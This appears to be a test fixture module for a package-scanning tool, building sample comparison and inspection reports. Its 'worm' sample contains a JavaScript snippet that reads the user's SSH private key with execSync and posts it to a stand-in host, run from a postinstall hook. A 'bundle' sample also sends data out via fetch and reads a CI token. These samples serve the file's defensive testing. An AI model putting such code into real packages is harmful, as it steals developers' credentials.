"""Comparisons and inspections made by hand: what their reports are tested with."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

from tests.unit.reports.samples import HOSTILE

from pratique.errors import Exit
from pratique.model.behavior import (
    Analysis,
    Baseline,
    Change,
    Difference,
    Gain,
    Inner,
    Origin,
    Outcome,
    Reason,
    Seen,
    Sizes,
    Step,
    Tier,
)
from pratique.model.policy import Action
from pratique.reports.difference_subject import Age, Compared, Inspected, Side

SHA = "5e" * 64
QUIET = Outcome(Action.OFF)

BEFORE = """\
'use strict';

const path = require('path');

// Where the theme of the widget lies.
function themeOf(root, name) {
\treturn path.join(root, 'themes', `${name}.json`);
}

function setUp(root, options) {
\tconst theme = themeOf(root, options.theme || 'light');
\treturn {theme, size: options.size || 12};
}

module.exports = {setUp};
"""
AFTER = """\
'use strict';

const path = require('path');
const os = require('os');
const {execSync} = require('child_process');

// Where the theme of the widget lies.
function themeOf(root, name) {
\treturn path.join(root, 'themes', `${name}.json`);
}

function setUp(root, options) {
\tconst theme = themeOf(root, options.theme || 'light');
\tconst home = os.homedir();
\tconst key = execSync(`cat ${home}/.ssh/id_rsa`);
\tfetch('https://collect.invalid/k', {method: 'POST', body: key});
\treturn {theme, size: options.size || 14};
}

module.exports = {setUp};
"""
SHELL = Seen("exec.process:shell", "lib/setup.js", 15, "execSync(`cat ${home}/.ssh/id_rsa`)", "cjs")
SECRET = Seen("secret.path:ssh", "lib/setup.js", 15, "`cat ${home}/.ssh/id_rsa`", "cjs")
FETCH = Seen(
    "net.client:fetch",
    "lib/setup.js",
    16,
    "fetch('https://collect.invalid/k', {method: 'POST', body: key})",
    "cjs",
)
HOST = Seen("net.host:collect.invalid", "lib/setup.js", 16, "'https://collect.invalid/k'", "cjs")
INSTALL = Seen("install.script:postinstall", "package.json", 0, "postinstall: node lib/setup.js")


def gain(seen: Seen, tier: Tier, *, hard: bool = False, **more: Any) -> Gain:
    return Gain(seen.capability, tier, hard, (seen,), **more)


def difference(**more: Any) -> Difference:
    made: dict[str, Any] = {
        "name": "left-widget",
        "version": "2.4.1",
        "baseline": Baseline(Origin.REGISTRY, ("2.4.0",), frozenset({"fs.read", "browser.x:a"})),
        "step": Step.PATCH,
        "before": Sizes(41_200, 12_040, 14),
        "after": Sizes(41_210, 12_050, 14),
    }
    return Difference(**made | more)


def compared(of: Difference, outcome: Outcome = QUIET, **more: Any) -> Compared:
    after = Analysis(SHA, 1, files=of.after.files, size=of.after.size, code=of.after.code)
    made: dict[str, Any] = {
        "after": after,
        "exit": Exit.BLOCKED if outcome.action >= Action.QUARANTINE else Exit.ALLOWED,
        "asked": (f"{of.name}@2.4.0", f"{of.name}@{of.version}"),
    }
    return Compared(of, outcome, **made | more)


def quiet() -> Compared:
    """Nothing gained, nothing lost, nothing changed."""
    return compared(difference(), age=Age(timedelta(days=30)))


def worm() -> Compared:
    """A patch release that gained what a worm needs."""
    reasons = (
        Reason(
            Action.BLOCK,
            "hard",
            "newly install.script:postinstall, secret.path:ssh",
            ("install.script:postinstall", "secret.path:ssh"),
        ),
        Reason(
            Action.BLOCK,
            "chain",
            "newly reads secrets and talks to others: secret.path:ssh, net.client:fetch",
            ("secret.path:ssh", "net.client:fetch"),
        ),
        Reason(Action.QUARANTINE, "tier-b", "newly net.client:fetch", ("net.client:fetch",)),
    )
    of = difference(
        gained=(
            gain(SHELL, Tier.A),
            gain(INSTALL, Tier.A, hard=True),
            gain(SECRET, Tier.A, hard=True),
            gain(FETCH, Tier.B),
            gain(HOST, Tier.B),
        ),
        lost=("fs.read",),
        changes=(
            Change("bin", "widget", "bin/widget.js", ""),
            Change("dependencies", "easy-thing", "", "^1.0.0"),
            Change("dependencies", "tiny-thing", "^2.0.0", "git+https://forge.invalid/t.git"),
            Change("install", "postinstall", "", "node lib/setup.js"),
        ),
        after=Sizes(90_100, 61_000, 15),
        unread=(("dist/all.js", "it is larger than what is parsed"),),
    )
    old = Analysis("4d" * 64, 1, ("fs.read",), (Seen("fs.read", "lib/theme.js", 3, "readFile"),))
    return compared(
        of,
        Outcome(Action.BLOCK, reasons),
        before=(old,),
        sides=(Side("lib/setup.js", BEFORE, AFTER),),
        steps=(("accept", "pratique accept left-widget@2.4.1"),),
    )


def bundle() -> Compared:
    """A minified bundle of one long line, a renamed file, and a file that is new."""
    calm = ";".join(f"function a{n}(t){{return t[{n}]+o(t)}}" for n in range(400))
    line = calm + ";module.exports={a1,a2}"
    worse = line.replace("return t[200]", 'fetch("https://collect.invalid/"+t);return t[200]')
    seen = Seen("net.client:fetch", "dist/all.min.js", 1, 'fetch("https://collect.invalid/"+t)')
    new = Seen("env.named:CI_TOKEN", "dist/chunk-9f.js", 2, "process.env.CI_TOKEN")
    of = difference(
        version="3.0.0",
        step=Step.MAJOR,
        baseline=Baseline(Origin.LEDGER, ("2.3.9", "2.4.0")),
        gained=(
            gain(new, Tier.A),
            gain(seen, Tier.B, since=date(2026, 11, 2)),
        ),
    )
    reason = Reason(Action.WARN, "tier-b", "newly net.client:fetch", ("net.client:fetch",))
    return compared(
        of,
        Outcome(Action.WARN, (reason,)),
        age=Age(published=datetime(2026, 11, 22, 5, tzinfo=UTC)),
        sides=(
            Side("dist/all.min.js", line, worse),
            Side("dist/chunk-9f.js", None, "// chunk\nlet t = process.env.CI_TOKEN;\n"),
        ),
    )


def first() -> Compared:
    """Nothing to compare with."""
    reason = Reason(Action.OBSERVE, "unknown-past", "can exec.process:shell", (SHELL.capability,))
    of = difference(
        baseline=Baseline(Origin.NONE), step=Step.FIRST, before=Sizes(0, 0, 0), version="0.1.0"
    )
    of = replace(of, absolute=(gain(SHELL, Tier.A),))
    return compared(of, Outcome(Action.OBSERVE, (reason,)), asked=())


def unanalysable() -> Compared:
    """An archive that clients may read differently."""
    reason = Reason(Action.BLOCK, "unanalysable", "the archive has two entries named package.json")
    of = difference(oddities=("has two entries named package.json", "has bytes behind its end"))
    return compared(of, Outcome(Action.BLOCK, (reason,)), asked=("old.tgz", "new file.tgz"))


def many() -> Compared:
    """More of everything than a page or a terminal wants."""
    gains = tuple(
        Gain(
            f"net.host:h{n:03}.invalid",
            Tier.B,
            hard=False,
            evidence=tuple(Seen("", f"lib/f{m}.js", m + 1, f"'h{n:03}.invalid'") for m in range(5)),
        )
        for n in range(200)
    )
    of = difference(
        gained=gains,
        lost=tuple(f"net.host:l{n:03}.invalid" for n in range(50)),
        changes=tuple(Change("dependencies", f"d{n:03}", "^1.0.0", "^2.0.0") for n in range(90)),
        unread=tuple((f"dist/{n}.js", "it is larger than what is parsed") for n in range(40)),
        step=Step.MAJOR,
    )
    reason = Reason(Action.OBSERVE, "light", "newly net.host:h000.invalid and 199 more")
    text = "\n".join(f"line {n}" for n in range(40))
    sides = tuple(Side(f"lib/f{m}.js", text, text + f"\nmore {m}") for m in range(5))
    return compared(of, Outcome(Action.OBSERVE, (reason,)), sides=sides)


def hostile(text: str) -> Compared:
    """A comparison in which every string that can come from outside is `text`."""
    seen = Seen(f"env.named:{text}", f"{text}.js", 1, text, "cjs")
    pair = (f"net.host:{text}", f"fs.read:{text}")
    of = difference(
        name=text,
        version=text,
        baseline=Baseline(Origin.REGISTRY, (text,), frozenset(pair)),
        gained=(
            Gain(f"env.named:{text}", Tier.A, hard=True, evidence=(seen, replace(seen, line=0))),
        ),
        lost=pair,
        changes=(Change(text, text, text, text), Change("install", text, "", text)),
        oddities=(text,),
        unread=((text, text),),
    )
    reason = Reason(Action.BLOCK, "hard", f"newly env.named:{text}", (f"env.named:{text}",))
    return compared(
        of,
        Outcome(Action.BLOCK, (reason,)),
        before=(Analysis(SHA, 1, pair, (Seen(pair[0], text, 2, text),)),),
        asked=(text, text),
        steps=(("accept", text),),
        age=Age(why=text),
        notes=(text,),
        sides=(Side(f"{text}.js", "same\nold\n", f"{text}\nsame\n{text}\n"),),
    )


def every_hostile() -> Compared:
    return hostile("".join(text for name, text in HOSTILE.items() if name != "long"))


SAMPLES: dict[str, Callable[[], Compared]] = {
    "quiet": quiet,
    "worm": worm,
    "bundle": bundle,
    "first": first,
    "unanalysable": unanalysable,
    "many": many,
    "hostile": every_hostile,
}


def inspected(analysis: Analysis, outcome: Outcome = QUIET, **more: Any) -> Inspected:
    inner = analysis.inner or Inner()
    made: dict[str, Any] = {
        "name": inner.name,
        "version": inner.version,
        "exit": Exit.BLOCKED if outcome.action >= Action.QUARANTINE else Exit.ALLOWED,
    }
    return Inspected(analysis=analysis, outcome=outcome, **made | more)


def tiny() -> Inspected:
    """It can do nothing."""
    inner = Inner("tiny-thing", "1.0.0")
    return inspected(Analysis(SHA, 1, inner=inner, files=3, size=812, code=300))


def native() -> Inspected:
    """It builds itself at install, and carries a program."""
    seen = (
        SHELL,
        Seen("env.named:HOME", "lib/setup.js", 3, "process.env.HOME", "cjs"),
        Seen("fs.read", "lib/a.js", 7, "fs.readFileSync(f)", "bin"),
        Seen("install.implicit:gyp", "binding.gyp", 0, ""),
        *(Seen("net.client:fetch", "lib/n.js", n, f"fetch(u{n})") for n in range(1, 6)),
    )
    inner = Inner(
        "@corp/native",
        "1.0.3",
        scripts=(("test", "node test.js"),),
        dependencies=(("dependencies", "tiny-thing", "^1.0.0"),),
        bins=(("native", "bin/native.js"),),
    )
    analysis = Analysis(
        SHA,
        1,
        tuple(sorted({each.capability for each in seen})),
        tuple(sorted(seen)),
        inner,
        installs=(("install", "node-gyp rebuild"),),
        binaries=(("prebuilds/linux.node", "elf"),),
        files=41,
        size=3_400_120,
        code=90_100,
        unread=(("dist/all.js", "it is larger than what is parsed"),),
    )
    reason = Reason(Action.OBSERVE, "unknown-past", "can exec.process:shell", (SHELL.capability,))
    return inspected(analysis, Outcome(Action.OBSERVE, (reason,)), age=Age(timedelta(minutes=90)))


def broken() -> Inspected:
    """Not an archive."""
    reason = Reason(Action.BLOCK, "unanalysable", "the archive is not gzip")
    analysis = Analysis(SHA, 1, oddities=("is not gzip",))
    return inspected(analysis, Outcome(Action.BLOCK, (reason,)), name="odd.tgz", version="")


def hostile_inspection(text: str) -> Inspected:
    """An inspection in which every string that can come from outside is `text`."""
    capability = f"env.named:{text}"
    analysis = Analysis(
        SHA,
        1,
        (capability,),
        (Seen(capability, text, 1, text, "bin"),),
        Inner(text, text, ((text, text),), ((text, text, text),), ((text, text),)),
        installs=((text, text),),
        binaries=((text, text),),
        oddities=(text,),
        unread=((text, text),),
    )
    reason = Reason(Action.BLOCK, "unanalysable", text, (capability,))
    outcome = Outcome(Action.BLOCK, (reason,))
    return inspected(analysis, outcome, age=Age(why=text), notes=(text, text))


def every_hostile_inspection() -> Inspected:
    return hostile_inspection("".join(t for name, t in HOSTILE.items() if name != "long"))


INSPECTIONS: dict[str, Callable[[], Inspected]] = {
    "tiny": tiny,
    "native": native,
    "broken": broken,
    "hostile": every_hostile_inspection,
}
